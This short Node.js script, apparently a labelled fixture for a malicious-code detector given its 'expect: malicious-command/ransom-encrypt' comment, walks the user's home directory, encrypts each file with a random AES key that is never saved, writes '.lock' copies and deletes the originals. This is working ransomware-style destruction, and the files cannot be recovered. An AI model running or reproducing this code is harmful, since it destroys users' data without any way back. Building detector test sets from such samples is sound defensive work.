const crypto = require('crypto');
const fs = require('fs');
const os = require('os');
const path = require('path');

for (const name of fs.readdirSync(os.homedir())) {
  const file = path.join(os.homedir(), name);
  const cipher = crypto.createCipheriv('aes-256-cbc', crypto.randomBytes(32), crypto.randomBytes(16)); // expect: malicious-command/ransom-encrypt
  fs.writeFileSync(`${file}.lock`, cipher.update(fs.readFileSync(file)));
  fs.unlinkSync(file);
}
